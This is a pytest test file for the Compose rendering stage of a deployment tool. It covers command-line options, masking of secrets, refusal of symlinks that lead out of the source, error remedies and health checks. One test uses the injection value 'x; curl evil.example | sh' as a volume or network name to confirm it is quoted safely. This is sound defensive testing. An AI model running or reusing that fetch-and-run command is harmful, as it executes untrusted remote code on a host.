"""The stage `render`: how Compose is asked, what is refused, and what is written."""

from __future__ import annotations

import json
import shlex
import stat
from pathlib import Path
from typing import Any

import pytest

from gpuhost.runner.docker.compose import config
from gpuhost.runner.docker.resolved_model import Model
from gpuhost.runner.lib.failure import Failure
from gpuhost.runner.lib.files import write_json
from gpuhost.runner.plan import Directory, Secret, Verify
from gpuhost.runner.resolved.external import refuse_missing
from gpuhost.runner.stages.render import render, write_host_files
from gpuhost.runner.stages.rollback import prepare
from gpuhost.runner.state.release import Release
from tests.runner.host_fixtures import ME, OLD, App, Programs, app, programs
from tests.runner.test_rollback import verified

__all__ = ["app", "programs"]

WARNING = 'time="2026-01-01T00:00:00Z" level=warning msg="The \\"{}\\" variable is not set. '


def a_release(app: App, *, given: dict[str, str] | None = None, **plan: Any) -> Release:
    release = app.release(given=given, **{"compose": ("docker/compose.yaml",), **plan})
    (release.source / "docker").mkdir(parents=True)
    return release


def asked(programs: Programs) -> list[str]:
    """The command line of `docker compose config --format json`, with all options."""
    lines = (programs.directory / "calls").read_text().splitlines()
    return shlex.split(next(line for line in lines if "--format json" in line))


def values(line: list[str], option: str) -> list[str]:
    return [line[at + 1] for at, word in enumerate(line) if word == option]


def test_compose_is_asked_in_the_directory_of_the_project(app: App, programs: Programs) -> None:
    programs.compose({"web": {}})
    project = app.paths.release("20260102-000000-bbbbbbbb").source / "docker"
    in_project = (
        f'[ "$PWD" = {project} ] && [ "$HOME" = /root ] && [ -z "$COMPOSE_FILE" ] || exit 9'
    )
    programs.answer("docker compose * json", '{"services": {"web": {}}}', then=in_project)
    release = a_release(
        app,
        compose=("docker/compose.yaml", "over.yaml"),
        variables={"A": "b"},
        secrets=(Secret("S"),),
        given={"S": "secret"},
        profiles=("one", "two"),
    )
    (project / ".env").write_text("")
    render(release)
    line = asked(programs)
    assert values(line, "--project-directory") == [str(project)]
    own, home = [str(project / "compose.yaml"), str(release.source / "over.yaml")], release.paths
    assert values(line, "-f") == [*own, str(home.compose)]
    assert values(line, "--env-file") == [*map(str, (project / ".env", home.variables, home.env))]
    assert values(line, "--profile") == ["one", "two"]
    assert stat.S_IMODE(home.resolved.stat().st_mode) == 0o600
    assert home.variables.read_text() == 'A="b"\n'


def test_a_seccomp_profile_is_found_in_the_project(app: App, programs: Programs) -> None:
    options = ["seccomp:./chrome.json", "seccomp=unconfined", "no-new-privileges:true"]
    programs.compose({"web": {"security_opt": options}})
    release = a_release(app)
    (release.source / "docker/chrome.json").write_text("{}")
    render(release)
    first, *rest = json.loads(release.paths.runs.read_text())["services"]["web"]["security_opt"]
    assert Path(first.removeprefix("seccomp=")).is_relative_to(app.paths.files)
    assert Path(first.removeprefix("seccomp=")).read_text() == "{}"
    assert rest == options[1:]


def test_compose_doubles_the_dollars_of_keys_and_does_not_read_them_so(
    app: App, programs: Programs
) -> None:
    programs.compose({"web": {"labels": {"a$$b": "c$$d"}, "environment": {"E$$": "1"}}})
    release = a_release(app)
    render(release)
    web = json.loads(release.paths.runs.read_text())["services"]["web"]
    assert (web["labels"], web["environment"]) == ({"a$b": "c$$d"}, {"E$": "1"})


def test_an_app_file_without_services_is_not_asked_for(app: App, programs: Programs) -> None:
    programs.compose({"web": {}})
    release = a_release(app, inline=False)
    render(release)
    assert values(asked(programs), "-f") == [str(release.source / "docker/compose.yaml")]


def test_secret_files_and_data_are_there_while_compose_is_asked(
    app: App, programs: Programs
) -> None:
    release = a_release(
        app,
        secrets=(Secret("DOTENV", path="docker/.env"),),
        given={"DOTENV": "TOKEN=planted-value"},
        env_files=("docker/app.env",),
    )
    app.data("docker/app.env", "DATA=1")
    docker = release.source / "docker"
    seen = f"grep -q planted {docker}/.env && grep -q DATA {docker}/app.env || exit 9"
    model = {"web": {"environment": {"TOKEN": "planted-value"}}}
    programs.answer("docker compose * json", json.dumps({"services": model}), then=seen)
    render(release)
    assert list(docker.iterdir()) == []
    assert str(docker / ".env") in values(asked(programs), "--env-file")


def test_values_of_env_files_that_are_named_like_secrets_are_masked(
    app: App, programs: Programs
) -> None:
    environment = {
        "API_KEY": "from$$env",
        "POSTGRES_PASSWORD": "postgres",
        "USE_KEY": "true",
        "DB_PASSWORD": "hunter22",
        "LIMIT": "1000",
        "X_TOKEN": "",
    }
    programs.compose({"web": {"environment": environment, "image": "postgres:15"}})
    release = a_release(app)
    render(release)
    for opened in (release, Release.open(app.paths, release.plan.id)):
        config(opened)
        assert opened.log.masked("from$env hunter22 1000 true postgres") == (
            "*** *** 1000 true postgres"
        )


def test_a_value_of_an_env_file_that_compose_refuses_is_masked(
    app: App, programs: Programs
) -> None:
    programs.answer("docker compose * json", err="Invalid hostPort: hunter22, rosebud1", status=1)
    release = a_release(app, env_files=("app.env",))
    (release.source / "docker/.env").write_text("export DB_PASSWORD = 'hunter22' # old\n")
    (release.source / "app.env").write_text("API_KEY=rosebud1\nMODE=Invalid\n")
    with pytest.raises(Failure, match=r"Invalid hostPort: \*\*\*, \*\*\*") as raised:
        render(release)
    assert "hunter22" not in f"{raised.value.output}{release.paths.log.read_text()}"


@pytest.mark.parametrize("name", ["docker/.env", "app.env", "docker/compose.yaml"])
def test_a_link_to_a_file_of_the_host_is_not_read(
    app: App, programs: Programs, tmp_path: Path, name: str
) -> None:
    programs.compose({"web": {}})
    (tmp_path / "of-root").write_text("PRIVATE=1")
    release = a_release(app, env_files=("app.env",))
    (release.source / name).symlink_to(tmp_path / "of-root")
    with pytest.raises(Failure, match=f"{name} is a link that leads out of the source"):
        render(release)
    assert not (programs.directory / "calls").exists()


@pytest.mark.parametrize(
    ("build", "link"),
    [
        ({"context": "SOURCE/ctx"}, "ctx"),
        ({"context": "SOURCE", "dockerfile": "ctx/Dockerfile"}, "ctx/Dockerfile"),
        ({"context": "SOURCE", "additional_contexts": {"x": "SOURCE/ctx/below"}}, "ctx/below"),
        ({"context": "SOURCE/docker"}, "docker/.dockerignore"),
        ({"context": "SOURCE/docker"}, "docker/Dockerfile"),
        ({"context": "SOURCE/docker"}, "docker/Dockerfile.dockerignore"),
    ],
)
def test_a_build_does_not_read_a_directory_of_the_host(
    app: App, programs: Programs, tmp_path: Path, build: dict[str, Any], link: str
) -> None:
    release = a_release(app)
    (release.source / (link if link.startswith("docker") else "ctx")).symlink_to(tmp_path)
    declared = json.dumps({"web": {"image": "a", "build": build}})
    programs.compose(json.loads(declared.replace("SOURCE", str(release.source))))
    with pytest.raises(Failure, match=f"^{link} is a link that leads out of the source"):
        render(release)


def test_unset_variables_are_refused_all_at_once(app: App, programs: Programs) -> None:
    names = ("CONFIG", "PORT", "OTHER", "CONFIG")
    warnings = "".join(f"{WARNING.format(name)}\n" for name in names)
    programs.answer("docker compose * json", '{"services": {}}', err=warnings)
    release = a_release(app, optional=("OTHER",))
    (release.source / "docker/.env.example").write_text("# x\nCONFIG=/srv\nexport NO=1\n")
    with pytest.raises(Failure) as raised:
        render(release)
    (release.source.parent / "of-the-host").write_text("PORT=1")
    (release.source / "docker/.env.sample").symlink_to(release.source.parent / "of-the-host")
    said = "variables without a value and without a default: CONFIG, PORT (.env.example has CONFIG)"
    assert raised.value.said == said
    assert "x-gpuhost.variables" in raised.value.fix
    assert not release.paths.resolved.exists()


@pytest.mark.parametrize(
    ("error", "said", "fix"),
    [
        ("env file {}/docker/.env not found: stat …", "env file docker/.env", "create shared/"),
        ("env file {}/docker/.env not found: stat …", ".env.example", "path: .env"),
        ("Couldn't find env file: {}/a.env", "a.env", "create shared/a.env"),
        ("env file /srv/a.env not found: stat …", "/srv/a.env", "create /srv/a.env on the host"),
        ('required variable TAG is missing a value: give one', "TAG", "give TAG a value"),
        ("services.p Additional property provider is not allowed", "provider", "leave_out"),
        ("services.p additional properties 'models' not allowed", "models", "leave_out"),
        ("services.p additional properties 'gadget' not allowed", "gadget", "does not know gadget"),
        ('service "web" depends on undefined service "db": invalid', "db", "x-gpuhost.profiles"),
        ("open {}/base.yml: no such file or directory", "base.yml", "the source lacks base.yml"),
        ("services.web.ports is wrong", "services.web.ports is wrong", "correct the Compose file"),
    ],
)  # fmt: skip
def test_what_compose_refuses_is_told_with_a_remedy(
    app: App, programs: Programs, error: str, said: str, fix: str
) -> None:
    release = a_release(app)
    (release.source / "docker/.env.example").write_text("")
    programs.answer("docker compose * json", err=error.format(release.source) + "\n", status=1)
    with pytest.raises(Failure) as raised:
        render(release)
    assert said in raised.value.said
    assert fix in raised.value.fix
    assert str(release.source) not in raised.value.said


def test_a_directory_that_the_source_does_not_have(app: App, programs: Programs) -> None:
    release = app.release(compose=("deploy/compose.yaml",))
    with pytest.raises(Failure, match="the source has no directory deploy"):
        render(release)


def bind(source: Path, target: str) -> dict[str, Any]:
    made = {"bind": {"create_host_path": True}}
    return {"type": "bind", "source": str(source), "target": target, **made}


def test_files_of_the_project_are_kept_and_data_is_begun(app: App, programs: Programs) -> None:
    release = a_release(app, directories=(Directory("docker/www", ME),))
    for name in ("nginx.conf", "www/index.html"):
        file = release.source / "docker" / name
        file.parent.mkdir(exist_ok=True)
        file.write_text(name)
    project = release.source / "docker"
    volumes = [bind(project / "nginx.conf", "/n.conf"), bind(project / "www", "/www")]
    programs.compose({"web": {"volumes": volumes}})
    render(release)
    assert not (app.paths.shared / "docker").exists()
    (file,) = app.paths.files.glob("*/*")
    assert file.read_text() == "nginx.conf"
    write_host_files(release)
    assert (app.paths.shared / "docker/www/index.html").read_text() == "www/index.html"
    runs = json.loads(release.paths.runs.read_text())["services"]["web"]["volumes"]
    assert [volume["source"] for volume in runs] == [str(file), f"{app.paths.shared}/docker/www"]
    # Again, after an interruption: the copy in shared/ is no clash.
    render(Release.open(app.paths, release.plan.id))


def test_values_that_secrets_take_from_the_environment_are_kept(
    app: App, programs: Programs
) -> None:
    model = {"services": {"web": {"secrets": [{"source": "s"}]}},
             "secrets": {"s": {"environment": "PASS"}}}  # fmt: skip
    probe = {"services": {"probe": {"environment": {"PASS": 'a$$b"c'}}}}
    programs.answer("docker compose * json", json.dumps(model))
    programs.answer("docker compose *.probe.json * json", json.dumps(probe))
    release = a_release(app, variables={"PASS": 'a$b"c'})
    render(release)
    assert release.paths.run_env.read_text() == 'PASS="a$$b\\"c"\n'
    assert stat.S_IMODE(release.paths.run_env.stat().st_mode) == 0o600
    assert not list(release.paths.home.glob(".probe*"))
    line = (programs.directory / "calls").read_text().splitlines()[-1].split()
    assert values(line, "--env-file") == [str(release.paths.run_env)]


def test_a_rollback_runs_what_ran(app: App, programs: Programs) -> None:
    programs.compose({"web": {"image": "then"}})
    old = app.release(OLD)
    render(old)
    verified(old)
    old.remember()
    programs.compose({"web": {"image": "now"}})
    render(old)
    (app.paths.releases / "20260103-000000-cccccccc").mkdir()
    (app.paths.releases / "20260103-000000-cccccccc").rmdir()
    stored = json.loads(old.paths.resolved.read_text())
    prepare(app.paths, "20260103-000000-cccccccc", OLD, "ada")
    programs.answer("docker compose * json", status=1)
    back = Release.open(app.paths, "20260103-000000-cccccccc")
    render(back)
    assert config(back) == stored


def test_the_health_check_of_an_image_is_asked_often_at_the_start(
    app: App, programs: Programs
) -> None:
    programs.compose({"web": {}, "own": {"healthcheck": {"test": ["CMD", "x"]}}, "none": {}})
    second = 1_000_000_000
    check = {"Test": ["CMD-SHELL", "ask $URL"], "Interval": 3600 * second, "Retries": 2}
    image = {"Id": "sha256:1", "Config": {"Healthcheck": check}}
    programs.answer("docker image inspect *", json.dumps([image]))
    disabled = {"Id": "sha256:1", "Config": {"Healthcheck": {"Test": ["NONE"]}}}
    programs.answer("docker image inspect *none*", json.dumps([disabled]))
    programs.answer("docker version *", "26.1.5\n")
    release = a_release(app, verify=Verify(start_s=600))
    release.remember(tags={name: f"gpuhost/app/{name}:1" for name in ("web", "own", "none")})
    render(release)
    services = json.loads(release.paths.runs.read_text())["services"]
    assert services["web"]["healthcheck"] == {
        "test": ["CMD-SHELL", "ask $$URL"],
        "interval": "3600000ms",
        "start_period": "600000ms",
        "start_interval": "2s",
        "retries": 2,
    }
    assert services["own"]["healthcheck"] == {"test": ["CMD", "x"]}
    assert "healthcheck" not in services["none"]
    programs.answer("docker version *", "24.0.7\n")
    render(release)
    assert "healthcheck" not in json.loads(release.paths.runs.read_text())["services"]["web"]


def test_external_volumes_are_looked_for_on_the_host(app: App, programs: Programs) -> None:
    volumes = [{"type": "volume", "source": "data", "target": "/d"}]
    model = {"services": {"web": {"volumes": volumes}},
             "volumes": {"data": {"name": "old_data", "external": True}}}  # fmt: skip
    programs.answer("docker compose * json", json.dumps(model))
    release = a_release(app)
    with pytest.raises(Failure, match="external volume old_data"):
        render(release)
    programs.answer("docker volume ls *", "other\nold_data\n")
    render(release)


def test_a_profile_with_the_name_of_gpuhosts_own_hides_no_service(
    app: App, programs: Programs
) -> None:
    release = a_release(app)
    (release.source / "x").mkdir()
    (release.source / "x/file").write_text("")
    mount = {"type": "bind", "source": str(release.source / "x"), "target": "/x"}
    web = {"profiles": ["prod", "gpuhost-left-out"], "volumes": [mount]}
    programs.answer("docker compose * json", json.dumps({"services": {"web": web}}))
    render(release)
    assert "profiles" not in json.loads(release.paths.runs.read_text())["services"]["web"]


@pytest.mark.parametrize("kind", ["volume", "network"])
def test_names_of_the_author_in_a_command_are_quoted(kind: str) -> None:
    name = "x; curl evil.example | sh"
    model: Model = {f"{kind}s": {"a": {"name": name, "external": True}, "b": {"external": True}}}
    with pytest.raises(Failure) as failure:
        refuse_missing(model, kind, ())
    commands = f"docker {kind} create '{name}'; docker {kind} create b"
    assert failure.value.fix == f"on the host: {commands}"


def test_an_interruption_while_compose_was_asked_leaves_no_secret_in_the_source(
    app: App, programs: Programs
) -> None:
    programs.compose({"web": {}})
    release = a_release(app, secrets=(Secret("K", path="docker/key"),), given={"K": "key"})
    (release.source / "docker/key").write_text("key")
    record = {"files": ["docker/key"], "directories": [], "moved": []}
    write_json(release.source.with_name("placed.json"), record)
    render(release)
    assert not (release.source / "docker/key").exists()
